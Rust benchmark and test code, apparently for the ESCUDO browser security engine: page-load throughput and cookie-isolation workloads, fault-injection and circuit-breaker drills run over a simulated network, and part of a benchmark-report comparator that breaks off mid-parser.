/// The page URL the loader workload navigates to.
pub const PAGE_URL: &str = "http://page.example/index.php";

/// The ESCUDO page markup: a ring-1 body carrying `images` img elements spread
/// round-robin across `origins` image hosts (subdomains of the page host, so the
/// page's `Domain` session cookie is in scope for every image request).
#[must_use]
pub fn image_page_html(host: &str, images: usize, origins: usize) -> String {
    let mut html = String::from("<html><body ring=\"1\" r=\"1\" w=\"1\" x=\"1\">");
    for i in 0..images {
        html.push_str(&format!(
            "<img src=\"http://img{}.{host}/img{i}.png\">",
            i % origins.max(1)
        ));
    }
    html.push_str("</body></html>");
    html
}

/// Registers the loader workload's servers on `fabric`: one page server at
/// `http://{host}` (sets a ring-1 `Domain` session cookie and declares its
/// policy) and `origins` image servers at `http://img{k}.{host}`, image server
/// `k` configured with `latency(k)` simulated service time.
pub fn register_loader_world(
    fabric: &SharedNetwork,
    host: &str,
    cookie_name: &str,
    images: usize,
    origins: usize,
    latency: impl Fn(usize) -> Duration,
) {
    let html = image_page_html(host, images, origins);
    let domain = host.to_string();
    let cookie = cookie_name.to_string();
    fabric.register(&format!("http://{host}"), move |_req: &Request| {
        Response::ok_html(html.clone())
            .with_cookie(SetCookie {
                domain: Some(domain.clone()),
                ..SetCookie::new(cookie.clone(), "bench")
            })
            .with_cookie_policy(
                &CookiePolicy::new(cookie.clone(), Ring::new(1))
                    .with_acl(Acl::uniform(Ring::new(1))),
            )
    });
    for k in 0..origins.max(1) {
        let origin = format!("http://img{k}.{host}");
        fabric.register(&origin, |req: &Request| {
            Response::ok_text(format!("img {}", req.url.path()))
        });
        fabric.set_latency(&origin, latency(k));
    }
}

/// A fresh single-session loader world: fabric + servers, uniform per-origin
/// latency.
#[must_use]
pub fn build_loader_fabric(
    images: usize,
    origins: usize,
    latency: impl Fn(usize) -> Duration,
) -> Arc<SharedNetwork> {
    let fabric = Arc::new(SharedNetwork::new());
    register_loader_world(&fabric, "page.example", "sid", images, origins, latency);
    fabric
}

/// One timed sample of repeated page loads at a worker-pool bound.
#[derive(Debug, Clone, Copy, Default)]
pub struct LoaderSample {
    /// Worker-pool bound the browser was configured with (1 = sequential oracle).
    pub workers: usize,
    /// Planned subresources per page.
    pub images: usize,
    /// Pages loaded inside the timed window.
    pub pages: u64,
    /// Wall-clock nanoseconds for the timed window.
    pub elapsed_ns: u128,
    /// Sum of the per-page subresource fan-out times (phase 2 only), in
    /// nanoseconds — the overlapped fetch time the pipeline optimizes.
    pub fetch_ns: u128,
}

impl LoaderSample {
    /// Mean nanoseconds per full page load.
    #[must_use]
    pub fn ns_per_page(&self) -> f64 {
        if self.pages == 0 {
            0.0
        } else {
            self.elapsed_ns as f64 / self.pages as f64
        }
    }

    /// Aggregate page loads per second.
    #[must_use]
    pub fn pages_per_sec(&self) -> f64 {
        if self.elapsed_ns == 0 {
            0.0
        } else {
            self.pages as f64 * 1.0e9 / self.elapsed_ns as f64
        }
    }
}

/// Measures `passes` page loads of the `images`-image page over a fresh fabric
/// with uniform `latency` on every image origin, at the given worker bound. One
/// untimed warm-up load precedes the window (engine cache, jar, allocator).
///
/// # Panics
///
/// Panics if a page load fails — the workload is deterministic, so a failure is
/// a real regression.
#[must_use]
pub fn measure_page_loads(
    images: usize,
    origins: usize,
    latency: Duration,
    workers: usize,
    passes: usize,
) -> LoaderSample {
    let fabric = build_loader_fabric(images, origins, |_| latency);
    let engine = engine_for_mode(PolicyMode::Escudo);
    let jar = Arc::new(SharedCookieJar::new());
    let mut browser = Browser::with_network(engine, jar, fabric);
    browser.set_subresource_workers(workers);
    browser.navigate(PAGE_URL).expect("loader warm-up page");

    let mut fetch_ns = 0u128;
    let start = Instant::now();
    for _ in 0..passes {
        let page = browser.navigate(PAGE_URL).expect("loader workload page");
        fetch_ns += browser.page(page).stats.subresource_fetch_ns;
    }
    LoaderSample {
        workers,
        images,
        pages: passes as u64,
        elapsed_ns: start.elapsed().as_nanos(),
        fetch_ns,
    }
}

/// Best-of-`samples` page-load measurement (scheduler noise only ever slows a
/// run down, so the best sample is the least-noisy estimate).
#[must_use]
pub fn best_page_loads(
    images: usize,
    origins: usize,
    latency: Duration,
    workers: usize,
    passes: usize,
    samples: usize,
) -> LoaderSample {
    (0..samples.max(1))
        .map(|_| measure_page_loads(images, origins, latency, workers, passes))
        .max_by(|a, b| a.pages_per_sec().total_cmp(&b.pages_per_sec()))
        .expect("at least one sample")
}

/// Reverse-skewed per-origin latency with a deterministic jitter: origin `k`
/// (earlier in document order) sleeps longer, with uneven steps so no two
/// origins tie — the adversarial schedule under which pipelined completion
/// order diverges maximally from document order. Shared by the oracle run and
/// the `tests/pipelined_loader.rs` determinism tests.
#[must_use]
pub fn reverse_skewed_latency(origins: usize, k: usize) -> Duration {
    Duration::from_micros((origins.max(1) - k) as u64 * 180 + (k as u64 * 37) % 90)
}

/// The outcome of the pipelined-vs-sequential oracle run.
#[derive(Debug, Clone, Copy, Default)]
pub struct LoaderOracleReport {
    /// Log entries compared (requests dispatched by each side).
    pub requests: usize,
    /// Sequence-sorted log entries that differed between the pipelined run and
    /// the sequential oracle (byte-level `LoggedRequest` comparison, including
    /// attached cookie names and response status). Must be 0.
    pub log_mismatches: usize,
    /// Per-subresource attached-cookie-name lists that differed. Must be 0.
    pub attachment_mismatches: usize,
    /// Subresource outcomes recorded out of document order by the pipelined run.
    /// Must be 0.
    pub order_violations: usize,
}

/// Loads the workload page `passes` times pipelined (8 workers) and `passes`
/// times sequential (1 worker) on two identically-built fabrics whose image
/// origins have *reverse-skewed* latencies — the first image in document order is
/// the slowest, so pipelined completion order inverts document order — and
/// compares the sequence-sorted request logs byte-for-byte, the per-subresource
/// attached cookie names, and the document-order recording invariant.
///
/// # Panics
///
/// Panics if a page load fails.
#[must_use]
pub fn run_loader_oracle(images: usize, origins: usize, passes: usize) -> LoaderOracleReport {
    let latency = |k| reverse_skewed_latency(origins, k);
    let run = |workers: usize| {
        let fabric = build_loader_fabric(images, origins, latency);
        let engine = engine_for_mode(PolicyMode::Escudo);
        let jar = Arc::new(SharedCookieJar::new());
        let mut browser = Browser::with_network(engine, jar, Arc::clone(&fabric));
        browser.set_subresource_workers(workers);
        let mut attachments: Vec<Vec<Vec<String>>> = Vec::new();
        let mut recorded_urls: Vec<Vec<String>> = Vec::new();
        for _ in 0..passes {
            let page = browser.navigate(PAGE_URL).expect("oracle page load");
            let page = browser.page(page);
            attachments.push(
                page.subresources
                    .iter()
                    .map(|s| s.attached_cookies.clone())
                    .collect(),
            );
            recorded_urls.push(
                page.subresources
                    .iter()
                    .map(|s| s.url.to_string())
                    .collect(),
            );
        }
        (fabric.log(), attachments, recorded_urls)
    };

    let (pipelined_log, pipelined_attached, pipelined_urls) = run(8);
    let (sequential_log, sequential_attached, sequential_urls) = run(1);

    let mut report = LoaderOracleReport {
        requests: pipelined_log.len().max(sequential_log.len()),
        ..LoaderOracleReport::default()
    };
    report.log_mismatches = pipelined_log
        .iter()
        .zip(&sequential_log)
        .filter(|(a, b)| a != b)
        .count()
        + pipelined_log.len().abs_diff(sequential_log.len());
    report.attachment_mismatches = pipelined_attached
        .iter()
        .zip(&sequential_attached)
        .filter(|(a, b)| a != b)
        .count();
    // Document order is the sequential dispatch order; the pipelined run must
    // have recorded its outcomes in exactly that order.
    report.order_violations = pipelined_urls
        .iter()
        .zip(&sequential_urls)
        .filter(|(a, b)| a != b)
        .count();
    report
}

/// The outcome of the shared-fabric multi-session workload.
#[derive(Debug, Clone, Copy, Default)]
pub struct FabricIsolationReport {
    /// Concurrent sessions (= OS threads), each with its own page host.
    pub sessions: usize,
    /// Requests the shared fabric logged across all sessions.
    pub requests: usize,
    /// Sessions whose subresource requests carried their own session cookie.
    pub sessions_with_cookies: usize,
    /// Log entries for session `t`'s hosts that carried a cookie belonging to a
    /// *different* session. Must be 0.
    pub isolation_violations: usize,
}

/// Runs `threads` full browser sessions concurrently over **one** shared fabric,
/// one shared jar and one shared engine. Session `t` owns the page host
/// `site{t}.example` (with per-session cookie `sid{t}` and its own image
/// origins) and loads its page `rounds` times with the pipelined loader; the
/// shared sequence-ordered log is then scanned for cross-session cookie leakage.
///
/// # Panics
///
/// Panics if any session thread fails a page load.
#[must_use]
pub fn run_shared_fabric_sessions(
    threads: usize,
    images: usize,
    rounds: usize,
) -> FabricIsolationReport {
    let fabric = Arc::new(SharedNetwork::new());
    let engine = Arc::new(escudo_core::EscudoEngine::new());
    let jar = Arc::new(SharedCookieJar::new());
    let origins = images.clamp(1, 4);
    for t in 0..threads {
        register_loader_world(
            &fabric,
            &format!("site{t}.example"),
            &format!("sid{t}"),
            images,
            origins,
            |k| Duration::from_micros(k as u64 * 100 + 50),
        );
    }

    thread::scope(|scope| {
        for t in 0..threads {
            let fabric = Arc::clone(&fabric);
            let engine: Arc<dyn escudo_core::PolicyEngine> = Arc::clone(&engine) as _;
            let jar = Arc::clone(&jar);
            scope.spawn(move || {
                let mut browser = Browser::with_network(engine, jar, fabric);
                browser.set_subresource_workers(4);
                for _ in 0..rounds {
                    browser
                        .navigate(&format!("http://site{t}.example/index.php"))
                        .expect("shared-fabric page load");
                }
            });
        }
    });

    let log = fabric.log();
    let mut report = FabricIsolationReport {
        sessions: threads,
        requests: log.len(),
        ..FabricIsolationReport::default()
    };
    for t in 0..threads {
        let own_cookie = format!("sid{t}");
        let suffix = format!("site{t}.example");
        let mut own_cookie_seen = false;
        for entry in log.iter().filter(|e| {
            let host = e.url.host();
            host.eq_ignore_ascii_case(&suffix)
                || host.to_ascii_lowercase().ends_with(&format!(".{suffix}"))
        }) {
            for name in &entry.cookie_names {
                if name == &own_cookie {
                    if host_is_image(&entry.url.host().to_ascii_lowercase(), &suffix) {
                        own_cookie_seen = true;
                    }
                } else {
                    report.isolation_violations += 1;
                }
            }
        }
        if own_cookie_seen {
            report.sessions_with_cookies += 1;
        }
    }
    report
}

/// `true` when `host` is one of a site's image subdomains (as opposed to the page
/// host itself).
fn host_is_image(host: &str, site: &str) -> bool {
    host.ends_with(&format!(".{site}"))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn timed_page_loads_count_pages_and_fetch_time() {
        let sample = measure_page_loads(4, 2, Duration::ZERO, 4, 3);
        assert_eq!(sample.pages, 3);
        assert_eq!(sample.images, 4);
        assert!(sample.elapsed_ns > 0);
        assert!(sample.fetch_ns > 0);
        assert!(sample.ns_per_page() > 0.0);
        assert!(sample.pages_per_sec() > 0.0);
        let best = best_page_loads(2, 2, Duration::ZERO, 1, 2, 2);
        assert_eq!(best.workers, 1);
        assert_eq!(best.pages, 2);
    }

    #[test]
    fn oracle_run_is_clean_under_skewed_latency() {
        let report = run_loader_oracle(6, 3, 2);
        // 2 passes × (1 page + 6 images) per side.
        assert_eq!(report.requests, 14);
        assert_eq!(report.log_mismatches, 0);
        assert_eq!(report.attachment_mismatches, 0);
        assert_eq!(report.order_violations, 0);
    }

    #[test]
    fn shared_fabric_sessions_stay_isolated() {
        let report = run_shared_fabric_sessions(3, 4, 2);
        assert_eq!(report.sessions, 3);
        // 3 sessions × 2 rounds × (1 page + 4 images).
        assert_eq!(report.requests, 30);
        assert_eq!(report.sessions_with_cookies, 3);
        assert_eq!(report.isolation_violations, 0);
    }

    #[test]
    fn the_page_markup_spreads_images_across_origins() {
        let html = image_page_html("page.example", 4, 2);
        assert!(html.contains("http://img0.page.example/img0.png"));
        assert!(html.contains("http://img1.page.example/img1.png"));
        assert!(html.contains("http://img0.page.example/img2.png"));
        assert!(html.contains("ring=\"1\""));
    }
}
