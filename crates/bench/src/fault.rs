//! The chaos workloads behind `fault_concurrent`: the full scenario matrix
//! under fault injection, the retry mediation oracle, and the breaker drill.
//!
//! This module backs the `fault_concurrent` bench and its CI gates:
//!
//! * [`run_matrix_under_chaos`] — the entire (app × attack × policy-mode)
//!   registry matrix replayed under an injected [`ChaosSchedule`]: every
//!   session's fabric gets per-origin fault plans and a retrying
//!   [`FetchPolicy`] through the scenario executor's chaos hook. The gate is
//!   the paper's fail-closed claim under fire: **zero** cells may change
//!   verdict, and the reference-monitor check/denial counts must be identical
//!   to the fault-free matrix — retries re-send mediated requests verbatim,
//!   so chaos may change *when* bytes move, never what ESCUDO decides.
//! * [`run_retry_oracle`] — one ad-network session staged twice, fault-free
//!   vs. first-dispatch-faulted-everywhere with retries: the sequence-sorted
//!   request logs and the per-subresource attached cookie names must come out
//!   **byte-identical**, because a retry reuses the original mediation plan
//!   and a faulted attempt is never logged.
//! * [`run_breaker_drill`] — the circuit breaker walked
//!   Closed → Open → HalfOpen → Closed on a [`ManualClock`], plus the retry
//!   budget and virtual-backoff deadline exercised to exact counter values:
//!   with no wall clock in the loop, every chaos counter is a constant.

use std::sync::{Arc, Mutex};
use std::time::Duration;

use escudo_apps::scenario::{install_chaos_hook, registry, MatrixReport, AD_SLOTS};
use escudo_apps::{AdServer, NewsSite};
use escudo_browser::{Browser, PolicyMode};
use escudo_core::ManualClock;
use escudo_net::{
    BreakerPhase, FaultPlan, FetchPolicy, LoggedRequest, Request, Response, SharedNetwork,
};

/// Every origin a registry scenario registers a server on. Fault plans are
/// installed for all of them on every session's fabric — installation is
/// independent of registration, so origins a given scenario never touches
/// simply keep a dormant plan.
#[must_use]
pub fn matrix_origins() -> Vec<String> {
    let mut origins: Vec<String> = [
        "http://forum.example",
        "http://calendar.example",
        "http://blog.example",
        "http://spa.example",
        "http://vault.example",
        "http://news.example",
        "http://evil.example",
    ]
    .iter()
    .map(ToString::to_string)
    .collect();
    origins.extend((0..AD_SLOTS).map(NewsSite::ad_origin));
    origins
}

/// A named chaos schedule: the fault plan installed on every matrix origin
/// plus the retry policy that must mask it. Schedules are deliberately
/// *maskable* — the plan's failures fit inside the policy's retry budget, so
/// a correctly-retrying fetch path stages every page and the verdict gate is
/// meaningful (an unmasked failure would surface as a changed verdict).
#[derive(Debug, Clone, Copy)]
pub struct ChaosSchedule {
    /// Short identifier used in report keys (`chaos_<name>_*`).
    pub name: &'static str,
    /// The session [`FetchPolicy`] the chaos hook installs.
    pub policy: FetchPolicy,
    /// Builds the per-origin fault plan (plans own an atomic replay counter,
    /// so each origin needs a fresh instance).
    plan: fn() -> FaultPlan,
}

impl ChaosSchedule {
    /// A fresh instance of the schedule's fault plan.
    #[must_use]
    pub fn plan(&self) -> FaultPlan {
        (self.plan)()
    }
}

/// The fault schedules the matrix is replayed under — per ISSUE 9, at least
/// three, each exercising a different composition of the fault fabric.
#[must_use]
pub fn schedules() -> Vec<ChaosSchedule> {
    vec![
        // Every origin's first two dispatches time out; three retries mask it.
        ChaosSchedule {
            name: "fail_first",
            policy: FetchPolicy::disabled()
                .with_max_retries(3)
                .with_backoff_base_ns(1_000),
            plan: || FaultPlan::new().fail_first(2),
        },
        // A steady-state blip: every third dispatch per origin times out; one
        // retry always lands on a clean index ((i+1) % 3 == 0 implies
        // (i+2) % 3 != 0).
        ChaosSchedule {
            name: "every_third",
            policy: FetchPolicy::disabled()
                .with_max_retries(2)
                .with_backoff_base_ns(1_000),
            plan: || FaultPlan::new().every_nth(3),
        },
        // Composition: a small latency tax on every dispatch plus one leading
        // timeout — slowdowns and failures are accounted separately.
        ChaosSchedule {
            name: "slow_blip",
            policy: FetchPolicy::disabled()
                .with_max_retries(2)
                .with_backoff_base_ns(1_000),
            plan: || FaultPlan::new().slow_by(10_000).fail_first(1),
        },
    ]
}

/// The outcome of one full matrix pass under a chaos schedule, plus the chaos
/// counters summed across every session fabric the pass created.
#[derive(Debug, Clone)]
pub struct ChaosMatrixReport {
    /// The schedule the pass ran under.
    pub schedule: &'static str,
    /// The matrix verdicts — gated exactly like the fault-free matrix.
    pub report: MatrixReport,
    /// Session fabrics the chaos hook observed (one per staged browser).
    pub sessions: usize,
    /// Injected failing faults (timeouts) summed across all sessions.
    pub faults_injected: u64,
    /// Injected slowdowns summed across all sessions.
    pub fault_slowdowns: u64,
    /// Retries granted summed across all sessions.
    pub retry_attempts: u64,
    /// Dispatches that succeeded after at least one retry.
    pub retry_successes: u64,
    /// Retries refused because a batch deadline was exhausted.
    pub retry_deadline_exhausted: u64,
    /// Breaker fast-fails (must stay 0 — matrix schedules run breaker-less).
    pub breaker_fast_fails: u64,
}

/// Replays the full scenario registry with `schedule`'s fault plan injected
/// on every matrix origin of every session and the schedule's retry policy
/// installed, then sums the chaos counters across all session fabrics.
#[must_use]
pub fn run_matrix_under_chaos(schedule: &ChaosSchedule) -> ChaosMatrixReport {
    let fabrics: Arc<Mutex<Vec<Arc<SharedNetwork>>>> = Arc::new(Mutex::new(Vec::new()));
    let sink = Arc::clone(&fabrics);
    let origins = matrix_origins();
    let policy = schedule.policy;
    let plan = schedule.plan;
    let _guard = install_chaos_hook(Arc::new(move |browser: &mut Browser| {
        browser.set_fetch_policy(policy);
        let fabric = Arc::clone(browser.fabric());
        for origin in &origins {
            fabric.inject_fault(origin, plan());
        }
        sink.lock().expect("chaos fabric sink lock").push(fabric);
    }));
    let report = MatrixReport::run(&registry());
    let fabrics = fabrics.lock().expect("chaos fabric sink lock");
    ChaosMatrixReport {
        schedule: schedule.name,
        report,
        sessions: fabrics.len(),
        faults_injected: fabrics.iter().map(|f| f.faults_injected()).sum(),
        fault_slowdowns: fabrics.iter().map(|f| f.fault_slowdowns()).sum(),
        retry_attempts: fabrics.iter().map(|f| f.retry_attempts()).sum(),
        retry_successes: fabrics.iter().map(|f| f.retry_successes()).sum(),
        retry_deadline_exhausted: fabrics.iter().map(|f| f.retry_deadline_exhausted()).sum(),
        breaker_fast_fails: fabrics.iter().map(|f| f.breaker_fast_fails()).sum(),
    }
}

/// The retry mediation oracle: the same ad-network session staged fault-free
/// and under first-dispatch faults with retries, compared byte for byte.
#[derive(Debug, Clone)]
pub struct RetryOracleReport {
    /// The policy mode both runs were staged under.
    pub mode: PolicyMode,
    /// The two sequence-sorted request logs are element-wise identical
    /// (method, URL, attached cookie names, status).
    pub logs_identical: bool,
    /// Per-subresource attached-cookie names are identical in plan order.
    pub attachments_identical: bool,
    /// Reference-monitor check/denial counts are identical — the witness
    /// that a retry never re-mediates.
    pub mediation_identical: bool,
    /// Retries the faulted run spent (one per faulted origin).
    pub faulted_retries: u64,
    /// Failing faults the faulted run absorbed.
    pub faulted_faults: u64,
    /// Retries the clean run spent (must be 0).
    pub clean_retries: u64,
    /// Subresource outcomes compared.
    pub subresources: usize,
}

struct OracleRun {
    log: Vec<LoggedRequest>,
    attachments: Vec<(String, Vec<String>)>,
    checks: u64,
    denials: u64,
    retries: u64,
    faults: u64,
}

fn oracle_run(mode: PolicyMode, chaos: bool) -> OracleRun {
    let mut browser = Browser::new(mode);
    if chaos {
        // Deadline off: the oracle's determinism must not depend on how fast
        // the host machine stages the page.
        browser.set_fetch_policy(
            FetchPolicy::disabled()
                .with_max_retries(2)
                .with_backoff_base_ns(1_000),
        );
        let fabric = browser.fabric();
        fabric.inject_fault("http://news.example", FaultPlan::new().fail_first(1));
        for i in 0..AD_SLOTS {
            fabric.inject_fault(&NewsSite::ad_origin(i), FaultPlan::new().fail_first(1));
        }
    }
    for i in 0..AD_SLOTS {
        browser
            .network_mut()
            .register(&NewsSite::ad_origin(i), AdServer::new());
    }
    browser
        .network_mut()
        .register("http://news.example", NewsSite::new(AD_SLOTS));
    browser
        .navigate("http://news.example/login?user=victim")
        .expect("victim login survives the chaos schedule");
    let page = browser
        .navigate("http://news.example/")
        .expect("front page survives the chaos schedule");
    let fabric = browser.fabric();
    OracleRun {
        log: fabric.log(),
        attachments: browser
            .page(page)
            .subresources
            .iter()
            .map(|s| (s.url.to_string(), s.attached_cookies.clone()))
            .collect(),
        checks: browser.erm().checks(),
        denials: browser.erm().denials(),
        retries: fabric.retry_attempts(),
        faults: fabric.faults_injected(),
    }
}

/// Stages the ad-network session twice — fault-free, then with every origin's
/// first dispatch timing out under a two-retry policy — and compares the
/// request logs, cookie attachments and mediation counters.
#[must_use]
pub fn run_retry_oracle(mode: PolicyMode) -> RetryOracleReport {
    let clean = oracle_run(mode, false);
    let chaotic = oracle_run(mode, true);
    RetryOracleReport {
        mode,
        logs_identical: clean.log == chaotic.log,
        attachments_identical: clean.attachments == chaotic.attachments,
        mediation_identical: clean.checks == chaotic.checks && clean.denials == chaotic.denials,
        faulted_retries: chaotic.retries,
        faulted_faults: chaotic.faults,
        clean_retries: clean.retries,
        subresources: clean.attachments.len(),
    }
}

/// The breaker drill's exact counter expectations — every field is a constant
/// because the drill runs on a [`ManualClock`] (no wall time ever enters the
/// retry or cooldown arithmetic).
#[derive(Debug, Clone, Copy)]
pub struct BreakerDrillReport {
    /// The breaker was observed Open after the trip threshold.
    pub opened: bool,
    /// The breaker was observed Closed again after the healed probe.
    pub reclosed: bool,
    /// Trips recorded (expected: exactly 1).
    pub trips: u64,
    /// Fast-fails while open (expected: exactly 2).
    pub fast_fails: u64,
    /// Half-open probes admitted (expected: exactly 1).
    pub probes: u64,
    /// Successful probes that re-closed the breaker (expected: exactly 1).
    pub recoveries: u64,
    /// Retries granted across the drill (expected: exactly 3).
    pub retry_attempts: u64,
    /// Dispatches that succeeded after retrying (expected: exactly 1).
    pub retry_successes: u64,
    /// Retries refused on the virtual-backoff deadline (expected: exactly 1).
    pub deadline_exhausted: u64,
    /// Failing faults injected across the drill (expected: exactly 7).
    pub faults_injected: u64,
}

impl BreakerDrillReport {
    /// `true` when every counter landed on its exact expected value.
    #[must_use]
    pub fn exact(&self) -> bool {
        self.opened
            && self.reclosed
            && self.trips == 1
            && self.fast_fails == 2
            && self.probes == 1
            && self.recoveries == 1
            && self.retry_attempts == 3
            && self.retry_successes == 1
            && self.deadline_exhausted == 1
            && self.faults_injected == 7
    }
}

/// Walks one origin's breaker Closed → Open → HalfOpen → Closed on a
/// [`ManualClock`], then exercises the retry budget and the virtual-backoff
/// deadline on two further origins — all on one fabric, so the final chaos
/// counters are exact constants.
#[must_use]
pub fn run_breaker_drill() -> BreakerDrillReport {
    let fabric = SharedNetwork::new();
    let clock = Arc::new(ManualClock::new());
    fabric.set_clock(clock.clone());
    for origin in [
        "http://flaky.example",
        "http://retry.example",
        "http://deadline.example",
    ] {
        fabric.register(origin, |req: &Request| {
            Response::ok_text(format!("pong {}", req.url.path()))
        });
    }
    let ping = || Request::get("http://flaky.example/ping").expect("drill request URL");
    let flaky_origin = ping().url.origin();

    // --- Closed → Open: three consecutive timeouts trip the breaker.
    fabric.inject_fault("http://flaky.example", FaultPlan::new().timeout());
    let breaker = FetchPolicy::disabled().with_breaker(3, 1_000_000_000);
    for _ in 0..3 {
        let _ = fabric.dispatch_with_policy(ping(), &breaker);
    }
    let opened = fabric.breaker_phase(&flaky_origin) == Some(BreakerPhase::Open);

    // --- Open: dispatches fail fast without touching the (sick) origin.
    for _ in 0..2 {
        let _ = fabric.dispatch_with_policy(ping(), &breaker);
    }

    // --- HalfOpen → Closed: cooldown elapses on the manual clock, the origin
    // heals, and the single admitted probe re-closes the breaker.
    clock.advance(Duration::from_secs(1));
    fabric.clear_fault("http://flaky.example");
    let _ = fabric.dispatch_with_policy(ping(), &breaker);
    let reclosed = fabric.breaker_phase(&flaky_origin) == Some(BreakerPhase::Closed);

    // --- Retry budget exactness: two leading timeouts, two retries, success.
    fabric.inject_fault("http://retry.example", FaultPlan::new().fail_first(2));
    let retrying = FetchPolicy::disabled()
        .with_max_retries(2)
        .with_backoff_base_ns(1_000);
    let _ = fabric.dispatch_with_policy(
        Request::get("http://retry.example/r").expect("drill request URL"),
        &retrying,
    );

    // --- Deadline exactness: backoff 1000 fits under the 3000ns deadline
    // (one retry granted), backoff 1000+2000 reaches it (refused).
    fabric.inject_fault("http://deadline.example", FaultPlan::new().timeout());
    let bounded = retrying.with_max_retries(5).with_deadline_ns(3_000);
    let _ = fabric.dispatch_with_policy(
        Request::get("http://deadline.example/d").expect("drill request URL"),
        &bounded,
    );

    BreakerDrillReport {
        opened,
        reclosed,
        trips: fabric.breaker_trips(),
        fast_fails: fabric.breaker_fast_fails(),
        probes: fabric.breaker_probes(),
        recoveries: fabric.breaker_recoveries(),
        retry_attempts: fabric.retry_attempts(),
        retry_successes: fabric.retry_successes(),
        deadline_exhausted: fabric.retry_deadline_exhausted(),
        faults_injected: fabric.faults_injected(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_breaker_drill_is_exactly_countable() {
        let report = run_breaker_drill();
        assert!(report.exact(), "drill counters drifted: {report:?}");
    }

    #[test]
    fn the_retry_oracle_holds_under_escudo() {
        let report = run_retry_oracle(PolicyMode::Escudo);
        assert!(report.logs_identical);
        assert!(report.attachments_identical);
        assert!(report.mediation_identical);
        assert_eq!(report.clean_retries, 0);
        assert!(report.faulted_retries > 0);
    }

    #[test]
    fn one_chaos_schedule_masks_cleanly() {
        let schedule = schedules().remove(0);
        let chaos = run_matrix_under_chaos(&schedule);
        assert_eq!(chaos.report.unexpected().len(), 0);
        assert!(chaos.faults_injected > 0);
        assert!(chaos.retry_attempts <= chaos.faults_injected);
        assert_eq!(chaos.breaker_fast_fails, 0);
    }
}
