//! The perf-trajectory comparator: diffs two merged bench reports
//! (`BENCH_<PR>.json`) metric by metric and classifies every change.
//!
//! CI merges each `harness = false` bench's `--json` report into one array,
//! `[{"bench": "...", "results": {...}}, ...]`, committed in-repo as the PR's
//! trajectory snapshot. This module reads two such snapshots — the committed
//! previous one and the freshly measured current one — with a dependency-free
//! JSON parser, pairs metrics by `(bench, key)` and judges each pair:
//!
//! * **correctness metrics** (mismatch/violation/leak counters, `*_passed`
//!   gate flags) fail on *any* regression — a single leaked cookie is not
//!   noise,
//! * **performance metrics** (`*_ns`, `*_per_sec`, `*speedup*`, `*retained*`,
//!   `*ratio*`, hit rates) warn past [`WARN_FRACTION`] and fail past
//!   [`FAIL_FRACTION`], with a **per-metric noise floor**: when a bench
//!   records a best-of-N spread beside a metric (`<key>_spread`, the max−min
//!   across its repeats), the metric's floor is
//!   [`SPREAD_FLOOR_MULTIPLIER`] × the larger of the two snapshots' spreads —
//!   a delta the bench itself cannot reproduce across repeats is noise, not a
//!   regression. Metrics without a recorded spread fall back to the global
//!   [`TIMING_NOISE_FLOOR_NS`] if they are nanosecond-valued. `*_spread` keys
//!   themselves are informational — they calibrate floors, they are not
//!   latencies,
//! * everything else (thread counts, workload sizes, occupancy counters) is
//!   informational and never gates.
//!
//! A metric present before but missing now warns (a silently dropped gate is
//! itself a regression signal); new metrics and new benches pass freely — the
//! trajectory must not punish adding coverage. The `trajectory` binary
//! (`cargo run -p escudo-bench --bin trajectory -- --previous A --current B`)
//! prints one line per non-Ok verdict and exits non-zero on failure, which is
//! how CI gates each PR's bench run against the committed snapshot.
//!
//! The binary's second mode, `trajectory --history <dir>`, scans every
//! committed `BENCH_<n>.json` in the directory and prints a per-metric trend
//! table — one sparkline row per gated (non-informational) metric across all
//! snapshots in PR order — so the whole perf story is visible in every PR.

use std::fmt::Write as _;

/// Relative regression past which a performance metric warns.
pub const WARN_FRACTION: f64 = 0.10;

/// Relative regression past which a performance metric fails the comparison.
pub const FAIL_FRACTION: f64 = 0.35;

/// Noise floor for nanosecond-valued metrics **without a recorded spread**: a
/// relative change whose absolute delta is below this many nanoseconds is
/// timer jitter, never a verdict.
pub const TIMING_NOISE_FLOOR_NS: f64 = 1_000.0;

/// Per-metric floor derivation: a metric with a recorded `<key>_spread` gets a
/// noise floor of this multiple of the larger snapshot's spread. Two spreads'
/// worth of movement is distinguishable from best-of-N repeat scatter; less is
/// not.
pub const SPREAD_FLOOR_MULTIPLIER: f64 = 2.0;

/// One metric value out of a bench report.
#[derive(Debug, Clone, PartialEq)]
pub enum Metric {
    /// A numeric result (integer results parse as floats).
    Num(f64),
    /// A boolean result, e.g. a gate verdict.
    Flag(bool),
    /// A string result.
    Text(String),
    /// An explicit JSON `null` (a non-finite number degraded on write).
    Null,
}

impl Metric {
    fn render(&self) -> String {
        match self {
            Metric::Num(v) => format!("{v:.3}"),
            Metric::Flag(v) => v.to_string(),
            Metric::Text(v) => format!("\"{v}\""),
            Metric::Null => "null".to_string(),
        }
    }
}

/// One bench's results out of a merged trajectory snapshot.
#[derive(Debug, Clone)]
pub struct BenchReport {
    /// The bench binary's name (`{"bench": ...}`).
    pub bench: String,
    /// The flat result metrics, in file order.
    pub results: Vec<(String, Metric)>,
}

impl BenchReport {
    fn get(&self, key: &str) -> Option<&Metric> {
        self.results.iter().find(|(k, _)| k == key).map(|(_, v)| v)
    }
}

// ---------------------------------------------------------------------------
// Dependency-free JSON parsing (subset: the shapes JsonReport can emit).

struct Parser<'a> {
    bytes: &'a [u8],
    pos: usize,
}

impl<'a> Parser<'a> {
    fn new(input: &'a str) -> Self {
        Parser {
            bytes: input.as_bytes(),
            pos: 0,
        }
    }

    fn skip_ws(&mut self) {
        while self
            .bytes
            .get(self.pos)
            .is_some_and(|b| b.is_ascii_whitespace())
        {
            self.pos += 1;
        }
    }

    fn peek(&mut self) -> Option<u8> {
        self.skip_ws();
        self.bytes.get(self.pos).copied()
    }

    fn expect(&mut self, byte: u8) -> Result<(), String> {
        match self.peek() {
            Some(b) if b == byte => {
                self.pos += 1;
                Ok(())
            }
            other => Err(format!(
                "expected '{}' at byte {}, found {:?}",
                byte as char,
                self.pos,
                other.map(char::from)
            )),
        }
    }

    fn parse_string(&mut self) -> Result<String, String> {
        self.expect(b'"')?;
        let mut out = String::new();
        loop {
            let Some(&b) = self.bytes.get(self.pos) else {
                return Err("unterminated string".to_string());
            };
            self.pos += 1;
            match b {
                b'"' => return Ok(out),
                b'\\' => {
                    let Some(&esc) = self.bytes.get(self.pos) else {
                        return Err("unterminated escape".to_string());
                    };
                    self.pos += 1;
                    match esc {
                        b'"' => out.push('"'),
                        b'\\' => out.push('\\'),
